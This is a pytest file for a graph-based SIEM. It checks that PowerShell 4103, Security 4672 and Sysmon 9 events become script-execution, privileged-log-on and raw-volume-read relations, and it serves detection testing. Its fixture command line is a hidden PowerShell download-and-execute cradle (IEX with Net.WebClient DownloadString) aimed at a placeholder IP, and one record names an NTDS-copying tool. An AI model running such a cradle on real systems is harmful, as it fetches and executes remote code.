"""Covered events that made no relation (issue #3, task COVER): 4103, 4672 and Sysmon 9 in the graph.

A peer benchmark replayed the OTRF samples: PowerShell 4103 (module logging, 87 records of the Empire
launcher), Security 4672 and Sysmon 9 were journaled and sighted their user or nothing.  Now a 4103 is
``process EXECUTED script`` of its payload and ``process RUN_AS user``, a 4672 of an account is
``user PRIVILEGED_ON host`` with its privileges tallied, and a Sysmon 9 is ``process READ_RAW file``
(the volume).  Winlogbeat records of our own making and the corpus's NXLog samples, on both stores.
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import orjson
import pytest

from graphsiem.store.base import GraphStore
from ingest.journal import Journal
from ingest.pipeline import ingest_paths, ingest_records
from tests.ingest.test_projection_variants import PS, SYSMON, edges, ingest, process, winlog
from tests.reliability.snapshot import snapshot

POWERSHELL = "Microsoft-Windows-PowerShell/Operational"
PS_LINE = f"{PS} -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"
PAYLOAD = ('CommandInvocation(New-Object): "New-Object"\r\n'
           'ParameterBinding(New-Object): name="TypeName"; value="Net.WebClient"\r\n')
CONTEXT = ("        Severity = Informational\r\n        Host Name = ConsoleHost\r\n"
           f"        Host Application = {PS_LINE}\r\n        Command Name = New-Object\r\n"
           "        User = CORP\\jdoe\r\n")
WS = ("host", "ws-0043")


def _sysmon_1(pid: str) -> dict[str, Any]:
    return winlog(SYSMON, 1, 1, "2024-05-01T10:00:00.000Z", {
        "UtcTime": "2024-05-01 10:00:00.000", "ProcessGuid": "{11111111-0000-0000-0000-000000000001}",
        "ProcessId": pid, "Image": PS, "CommandLine": PS_LINE, "User": "CORP\\jdoe",
        "ParentImage": "C:\\Windows\\explorer.exe", "ParentCommandLine": "C:\\Windows\\explorer.exe",
        "ParentProcessId": "900"})


def _pipeline(record_id: int, pid: int | None, payload: str = PAYLOAD) -> dict[str, Any]:
    record = winlog(POWERSHELL, 4103, record_id, "2024-05-01T10:00:05.000Z",
                    {"ContextInfo": CONTEXT, "Payload": payload, "UserData": ""})
    if pid is not None:
        record["winlog"]["process"] = {"pid": pid}
    return record


def _script(graph: dict[str, Any]) -> tuple[str, str]:
    [script] = [key for key in graph["entities"] if key[0] == "script"]
    return script


def test_a_4103_is_a_script_its_powershell_process_executed_as_its_account(store: GraphStore, tmp_path: Path) -> None:
    graph = ingest(store, tmp_path, [_sysmon_1("4242"), _pipeline(2, 4242)])
    powershell = process(PS, PS_LINE)
    script = _script(graph)
    assert edges(graph, "EXECUTED") == {(powershell, script)}
    assert (powershell, ("user", "corp\\jdoe")) in edges(graph, "RUN_AS")
    assert "New-Object" in graph["entities"][script][0]
    # the Host Application line makes no second process node
    assert [key for key in graph["entities"] if key[0] == "process"].count(powershell) == 1
    assert len([key for key in graph["entities"] if key[0] == "process"]) == 2  # powershell and explorer


def test_a_4103_whose_process_is_unknown_is_its_hosts_script(store: GraphStore, tmp_path: Path) -> None:
    graph = ingest(store, tmp_path, [_pipeline(2, None)])
    assert edges(graph, "EXECUTED") == {(WS, _script(graph))}
    assert not edges(graph, "RUN_AS")
    assert ("user", "corp\\jdoe") in graph["entities"]  # sighted, as before


def test_the_same_invocation_on_two_hosts_is_one_script(store: GraphStore, tmp_path: Path) -> None:
    other = _pipeline(3, None)
    other["winlog"]["computer_name"] = "WS-0044"
    graph = ingest(store, tmp_path, [_pipeline(2, None), other])
    script = _script(graph)
    assert edges(graph, "EXECUTED") == {(WS, script), (("host", "ws-0044"), script)}


def _4672(record_id: int, name: str, domain: str, sid: str, privileges: str) -> dict[str, Any]:
    return winlog("Security", 4672, record_id, "2024-05-01T10:00:00.000Z", {
        "SubjectUserSid": sid, "SubjectUserName": name, "SubjectDomainName": domain,
        "SubjectLogonId": "0x8F0F2CD7", "PrivilegeList": privileges}, computer="SRV-01")


ADMIN_SID = "S-1-5-21-1587066498-1489273250-1035260531-500"


def test_a_4672_of_an_account_is_its_admin_log_on_with_its_privileges(store: GraphStore, tmp_path: Path) -> None:
    records = [_4672(1, "admin", "CORP", ADMIN_SID, "SeDebugPrivilege\n\t\t\tSeBackupPrivilege"),
               _4672(2, "admin", "CORP", ADMIN_SID, "SeDebugPrivilege")]
    graph = ingest(store, tmp_path, records)
    edge = (("user", "corp\\admin"), "PRIVILEGED_ON", ("host", "srv-01"))
    assert edges(graph, "PRIVILEGED_ON") == {(edge[0], edge[2])}
    assert graph["relations"][edge][0] == 2
    [relation] = store.iter_relations("PRIVILEGED_ON")
    assert relation.tallies == {"privileges": {"SeDebugPrivilege": 2, "SeBackupPrivilege": 1}}


def test_a_4672_keeps_its_session_logon_id(tmp_path: Path) -> None:
    with Journal(tmp_path / "j.sqlite") as journal:
        ingest_records([_4672(1, "admin", "CORP", ADMIN_SID, "SeDebugPrivilege")], store=None, journal=journal,
                       origin="api")
        [fields] = [row[0] for row in journal.connection.execute(
            "SELECT fields FROM events WHERE kind = 'winsec:special_privileges'")]
    assert orjson.loads(fields)["winlog.logon.id"] == "0x8f0f2cd7"


@pytest.mark.parametrize(("name", "domain", "sid"), [
    ("SYSTEM", "NT AUTHORITY", "S-1-5-18"), ("MORDORDC$", "THESHIRE", "S-1-5-18"),
    ("NETWORK SERVICE", "NT AUTHORITY", "S-1-5-20"), ("SYSTEM", "NT AUTHORITY", "")])
def test_the_service_identities_make_no_admin_log_on(store: GraphStore, tmp_path: Path, name: str, domain: str,
                                                     sid: str) -> None:
    graph = ingest(store, tmp_path, [_4672(1, name, domain, sid, "SeTcbPrivilege")])
    assert not edges(graph, "PRIVILEGED_ON")


NTDS_COPIER = "C:\\Users\\Public\\ninjacopy.exe"


def test_a_raw_volume_read_relates_the_reader_to_the_volume(store: GraphStore, tmp_path: Path) -> None:
    record = winlog(SYSMON, 9, 5, "2024-05-01T10:00:00.000Z", {
        "UtcTime": "2024-05-01 10:00:00.000", "ProcessGuid": "{11111111-0000-0000-0000-000000000009}",
        "ProcessId": "5150", "Image": NTDS_COPIER, "Device": "\\Device\\HarddiskVolume2"}, computer="DC01")
    graph = ingest(store, tmp_path, [record])
    reader = process(NTDS_COPIER)
    assert edges(graph, "READ_RAW") == {(reader, ("file", "\\device\\harddiskvolume2"))}
    assert (("host", "dc01"), reader) in edges(graph, "RAN")


CORPUS = Path(os.environ.get("GRAPHSIEM_SAMPLES", "/work/shared/datasets")) / "otrf-security-datasets"


def test_the_empire_launchers_4103s_are_scripts_of_its_stager(store: GraphStore, tmp_path: Path) -> None:
    with Journal(tmp_path / "j.sqlite") as journal:
        ingest_paths([CORPUS / "empire_launcher_vbs_2020-09-04160940.json"], store=store, journal=journal,
                     progress=False)
    graph = snapshot(store)
    executed = edges(graph, "EXECUTED")
    runners = {src for src, _ in executed}
    scripts = [graph["entities"][dst][0] for _, dst in executed]
    # 87 pipeline records: 29 distinct invocations (and the stager's 4104), the stager's process runs them
    assert len(executed) == 30
    assert any("SYsTEM.NeT.WebCLienT" in text for text in scripts)
    assert all(src[0] == "process" for src in runners)
    # Sysmon 9: System reads the three volumes of WORKSTATION5; the DC's 4672s are SYSTEM's: no admin log-on
    assert {dst for _, dst in edges(graph, "READ_RAW")} == {
        ("file", f"\\device\\harddiskvolume{n}") for n in (1, 2, 3)}
    assert not edges(graph, "PRIVILEGED_ON")


def test_an_mde_powershell_command_is_a_script_of_its_process(store: GraphStore, tmp_path: Path) -> None:
    rows = orjson.loads((Path(__file__).parent / "parsers" / "fixtures" / "mde" / "advanced_hunting.json").read_bytes())
    graph = ingest(store, tmp_path, [rows["powershell_command"]])
    [(runner, script)] = edges(graph, "EXECUTED")
    assert runner[0] == "process" and graph["entities"][script][0] == "New-Object"
    assert (runner, ("user", "corp\\jdoe")) in edges(graph, "RUN_AS")
